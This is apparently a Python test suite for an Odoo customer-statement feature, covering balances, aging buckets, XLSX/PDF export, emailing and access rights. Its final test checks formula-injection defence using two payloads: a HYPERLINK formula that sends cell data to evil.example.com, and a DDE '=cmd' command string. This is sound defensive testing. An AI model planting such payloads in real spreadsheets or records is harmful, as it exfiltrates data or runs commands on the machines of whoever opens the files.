import base64
import io
from datetime import timedelta

from openpyxl import load_workbook

from odoo.exceptions import AccessError, ValidationError
from odoo.tests import tagged

from odoo.addons.otc_order_to_cash.tests.common import OtcCreditCommon


@tagged("post_install", "-at_install")
class TestStatement(OtcCreditCommon):
    """Statement of a customer from T-60 to T (T = today).

    Before the period: invoice A 1000 (T-90, due T-60), invoice B 500 (T-100,
    due T-70) paid by P0 500 (T-80): opening balance 1000.
    In the period: invoice C 300 (T-45, due T-15, to the contact), credit
    note E 100 (T-20, due T+10), invoice D 200 (T-10, due T+20), payment P1
    400 (T-5) applied to A: closing balance 1000.
    Open items at T: A 600 (60 days), C 300 (15 days), D 200, E -100.
    """

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company.email = "ar@company.example.com"
        day = cls.today
        cls.inv_a = cls.make_invoice(cls.customer, 1000, days_ago=90)
        cls.inv_b = cls.make_invoice(cls.customer, 500, days_ago=100)
        cls.pay_0 = cls.make_dated_payment(cls.customer, 500, day - timedelta(80))
        cls.reconcile(cls.inv_b, cls.pay_0)
        cls.inv_c = cls.make_invoice(cls.contact, 300, days_ago=45)
        cls.refund_e = cls.make_invoice(
            cls.customer, 100, days_ago=20, move_type="out_refund"
        )
        cls.inv_d = cls.make_invoice(cls.customer, 200, days_ago=10)
        cls.pay_1 = cls.make_dated_payment(cls.customer, 400, day - timedelta(5))
        cls.reconcile(cls.inv_a, cls.pay_1)
        # Noise: another customer, a draft invoice.
        other = cls.env["res.partner"].create({"name": "Other Customer"})
        cls.make_invoice(other, 999, days_ago=30)
        cls.make_invoice(cls.customer, 777, days_ago=3, post=False)

    @classmethod
    def make_dated_payment(cls, partner, amount, date):
        payment = (
            cls.env["account.payment"]
            .with_company(cls.company)
            .create(
                {
                    "payment_type": "inbound",
                    "partner_type": "customer",
                    "partner_id": partner.id,
                    "amount": amount,
                    "date": date,
                    "journal_id": cls.company_data["default_journal_bank"].id,
                }
            )
        )
        payment.action_post()
        return payment

    @classmethod
    def reconcile(cls, invoice, payment):
        (invoice.line_ids + payment.move_id.line_ids).filtered(
            lambda line: (
                line.account_id.account_type == "asset_receivable"
                and not line.reconciled
            )
        ).reconcile()

    def wizard(self, user=None, date_from=None, date_to=None, partner=None):
        env = self.env(user=user) if user else self.env
        return env["otc.statement.wizard"].create(
            {
                "partner_id": (partner or self.customer).id,
                "company_id": self.company.id,
                "date_from": date_from or self.today - timedelta(60),
                "date_to": date_to or self.today,
            }
        )

    def test_statement_figures(self):
        data = self.wizard(user=self.clerk)._statement_data()
        self.assertEqual(data["opening_balance"], 1000.0)
        self.assertEqual(
            [
                (line["type"], line["reference"], line["amount"], line["balance"])
                for line in data["lines"]
            ],
            [
                ("invoice", self.inv_c.name, 300.0, 1300.0),
                ("credit_note", self.refund_e.name, -100.0, 1200.0),
                ("invoice", self.inv_d.name, 200.0, 1400.0),
                ("payment", self.pay_1.move_id.name, -400.0, 1000.0),
            ],
        )
        self.assertEqual(data["lines"][0]["date"], self.today - timedelta(45))
        self.assertEqual((data["total_debit"], data["total_credit"]), (500.0, 500.0))
        self.assertEqual(data["closing_balance"], 1000.0)
        self.assertEqual(
            data["closing_balance"],
            data["opening_balance"] + sum(line["amount"] for line in data["lines"]),
        )
        items = {
            item["reference"]: (
                item["amount"],
                item["days_overdue"],
                item["bucket_label"],
            )
            for item in data["open_items"]
        }
        self.assertEqual(
            items,
            {
                self.inv_a.name: (600.0, 60, "31-60 days"),
                self.inv_c.name: (300.0, 15, "1-30 days"),
                self.inv_d.name: (200.0, 0, "Current"),
                self.refund_e.name: (-100.0, 0, "Current"),
            },
        )
        self.assertEqual(
            [(b["label"], b["total"]) for b in data["buckets"]],
            [
                ("Current", 100.0),
                ("1-30 days", 300.0),
                ("31-60 days", 600.0),
                ("61-90 days", 0.0),
                ("Over 90 days", 0.0),
            ],
        )
        self.assertEqual(data["open_total"], 1000.0)
        self.assertEqual(data["open_items_difference"], 0.0)

    def test_statement_at_earlier_date(self):
        """Later documents and reconciliations are left out: A is fully open."""
        data = self.wizard(
            date_from=self.today - timedelta(60), date_to=self.today - timedelta(30)
        )._statement_data()
        self.assertEqual(data["opening_balance"], 1000.0)
        self.assertEqual(
            [line["reference"] for line in data["lines"]], [self.inv_c.name]
        )
        self.assertEqual(data["closing_balance"], 1300.0)
        items = {
            item["reference"]: (item["amount"], item["bucket_label"])
            for item in data["open_items"]
        }
        self.assertEqual(
            items,
            {
                self.inv_a.name: (1000.0, "1-30 days"),
                self.inv_c.name: (300.0, "Current"),
            },
        )
        self.assertEqual(data["open_items_difference"], 0.0)

    def test_custom_buckets(self):
        self.company.otc_aging_buckets = " 15, 45 "
        data = self.wizard()._statement_data()
        self.assertEqual(
            [(b["label"], b["total"]) for b in data["buckets"]],
            [("Up to 15 days", 400.0), ("16-45 days", 0.0), ("Over 45 days", 600.0)],
        )
        self.assertEqual(data["open_total"], 1000.0)

    def test_bad_bucket_spec(self):
        for spec, message in (
            ("30,10", "must increase"),
            ("0,30,x", "not a whole number"),
            ("-5,30", "negative"),
            ("0,,30", "empty"),
        ):
            with (
                self.subTest(spec=spec),
                self.assertRaisesRegex(ValidationError, message),
            ):
                self.company.otc_aging_buckets = spec
                self.company.flush_recordset()
        with self.assertRaisesRegex(ValidationError, "appears twice"):
            self.env["res.config.settings"].create({"otc_aging_buckets": "30,30"})

    def test_dates_and_defaults(self):
        wizard = self.env["otc.statement.wizard"].new(
            self.env["otc.statement.wizard"]
            .with_context(active_model="res.partner", active_id=self.contact.id)
            .default_get(["partner_id", "company_id", "date_from", "date_to"])
        )
        self.assertEqual(wizard.partner_id, self.customer, "commercial entity")
        self.assertEqual(wizard.date_to, self.today)
        self.assertEqual(wizard.date_from.day, 1)
        self.assertEqual(
            (self.today.year * 12 + self.today.month)
            - (wizard.date_from.year * 12 + wizard.date_from.month),
            3,
        )
        with self.assertRaises(ValidationError):
            self.wizard(date_from=self.today, date_to=self.today - timedelta(1))
        action = (
            self.env["otc.worklist"]
            .new({"partner_id": self.customer.id, "company_id": self.company.id})
            .action_statement()
        )
        self.assertEqual(action["res_model"], "otc.statement.wizard")
        self.assertEqual(action["context"]["default_partner_id"], self.customer.id)

    def test_xlsx(self):
        wizard = self.wizard(user=self.clerk)
        action = wizard.action_export_xlsx()
        self.assertIn("/web/content/", action["url"])
        self.assertTrue(wizard.filename.endswith(".xlsx"))
        book = load_workbook(io.BytesIO(base64.b64decode(wizard.file)))
        self.assertEqual(len(book.sheetnames), 2)
        statement, open_items = book.worksheets
        rows = [list(row) for row in statement.iter_rows(values_only=True)]
        closing = next(row for row in rows if "Closing Balance" in row)
        self.assertEqual(closing[6], 1000.0)
        opening = next(row for row in rows if "Opening Balance" in row)
        self.assertEqual(opening[6], 1000.0)
        references = [row[0] for row in open_items.iter_rows(values_only=True)]
        for move in (self.inv_a, self.inv_c, self.inv_d, self.refund_e):
            self.assertIn(move.name, references)

    def test_report_renders(self):
        wizard = self.wizard(user=self.clerk)
        self.assertEqual(wizard.action_print()["type"], "ir.actions.report")
        html, _report_type = (
            self.env["ir.actions.report"]
            .with_user(self.clerk)
            ._render_qweb_pdf(
                "otc_collections.action_report_otc_statement",
                wizard.partner_id.ids,
                data=wizard._report_data(),
            )
        )
        html = html.decode()
        for text in (
            "Statement of Account",
            "Opening Balance",
            "Closing Balance",
            "31-60 days",
            self.inv_c.name,
            self.pay_1.move_id.name,
        ):
            self.assertIn(text, html)

    def test_send_by_email(self):
        wizard = self.wizard(user=self.clerk)
        wizard.action_send_email()
        # The email is the customer's (the template is on res.partner).
        mail = self.env["mail.mail"].search(
            [("model", "=", "res.partner"), ("res_id", "=", self.customer.id)]
        )
        self.assertEqual(len(mail), 1)
        self.assertEqual(mail.recipient_ids, self.customer)
        self.assertIn("statement of account to", mail.subject)
        self.assertIn(self.company.name, mail.subject)
        self.assertEqual(len(mail.attachment_ids), 1)
        self.assertTrue(mail.attachment_ids.name.startswith("Statement - "))
        self.assertIn("Statement of account", self.customer.message_ids[0].body)

    def test_dunning_level_attaches_statement(self):
        policy = self.env["otc.dunning.policy"].create(
            {
                "name": "Statement policy",
                "company_id": self.company.id,
                "level_ids": [
                    (
                        0,
                        0,
                        {
                            "sequence": 1,
                            "name": "First",
                            "days": 10,
                            "attach_statement": True,
                        },
                    )
                ],
            }
        )
        self.company.otc_default_dunning_policy_id = policy
        run = self.env["otc.dunning.run"].create(
            {"company_id": self.company.id, "date": self.today}
        )
        run._run()
        comm = self.env["otc.dunning.communication"].search(
            [("partner_id", "=", self.customer.id)]
        )
        self.assertEqual(len(comm), 1)
        wizards = self.env["otc.statement.wizard"].search_count([])
        comm.with_user(self.collector).action_send()
        self.assertEqual(
            self.env["otc.statement.wizard"].search_count([]),
            wizards,
            "the statement comes from the report, no wizard is created",
        )
        mail = self.env["mail.mail"].search(
            [("model", "=", comm._name), ("res_id", "=", comm.id)]
        )
        self.assertEqual(len(mail), 1)
        names = mail.attachment_ids.mapped("name")
        self.assertEqual(len(names), 2, "the reminder and the statement")
        self.assertTrue(any(name.startswith("Statement - ") for name in names))

    def test_salesman_cannot_use_statements(self):
        with self.assertRaises(AccessError):
            self.wizard(user=self.salesman)

    def test_statement_is_a_report_on_the_customer(self):
        """One entry point renders the statement of a customer (a contact
        gives its commercial entity), as PDF or XLSX, with the wizard's
        figures."""
        report = self.env["report.otc_collections.report_otc_statement"].with_user(
            self.clerk
        )
        start, end = self.today - timedelta(60), self.today
        html, filename = report._otc_render(
            self.contact, self.company, start, end, "pdf"
        )
        self.assertTrue(filename.startswith("Statement - Credit Customer"))
        html = html.decode()
        for text in ("Opening Balance", self.inv_c.name, self.pay_1.move_id.name):
            self.assertIn(text, html)
        content, filename = report._otc_render(
            self.customer, self.company, start, end, "xlsx"
        )
        self.assertTrue(filename.endswith(".xlsx"))
        rows = list(load_workbook(io.BytesIO(content)).worksheets[0].values)
        closing = next(row for row in rows if "Closing Balance" in row)
        self.assertEqual(closing[6], self.wizard()._statement_data()["closing_balance"])
        action = self.wizard(user=self.clerk).action_print()
        self.assertEqual(action["context"]["active_ids"], self.customer.ids)
        self.assertEqual(action["data"]["date_to"], str(self.today))
        with self.assertRaises(AccessError):
            report.with_user(self.salesman)._otc_statement_data(
                self.customer, self.company, start, end
            )
        template = self.env.ref("otc_collections.mail_template_otc_statement")
        self.assertEqual(template.model, "res.partner")
        self.assertEqual(
            self.env.ref("otc_collections.action_report_otc_statement").model,
            "res.partner",
        )

    def test_xlsx_writes_text_as_text(self):
        """A customer named like a formula, and payers' references, come out
        of the statement export as text."""
        name = '=HYPERLINK("http://evil.example.com/?d="&A1,"Click")'
        self.customer.name = name
        self.inv_c.ref = "=cmd|' /C calc'!A0"
        wizard = self.wizard(user=self.clerk)
        wizard.action_export_xlsx()
        book = load_workbook(io.BytesIO(base64.b64decode(wizard.file)))
        cells = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
        self.assertFalse(
            [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink]
        )
        texts = {c.value for c in cells if c.data_type == "s"}
        self.assertIn(name, texts)
        self.assertIn("=cmd|' /C calc'!A0", texts)
